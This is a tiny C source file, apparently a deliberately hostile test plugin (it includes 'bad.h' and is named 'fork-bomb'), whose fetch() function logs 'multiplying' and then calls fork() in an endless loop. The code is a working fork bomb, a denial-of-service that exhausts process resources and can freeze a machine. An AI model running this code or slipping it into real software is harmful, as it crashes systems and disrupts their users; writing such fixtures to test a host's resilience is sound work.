/* Forks until it is stopped. */
#define NAME "fork-bomb"
#include "bad.h"

#include <unistd.h>

int32_t fetch(const restream_call* call) {
  log_text(call, "multiplying");
  for (;;) fork();
}
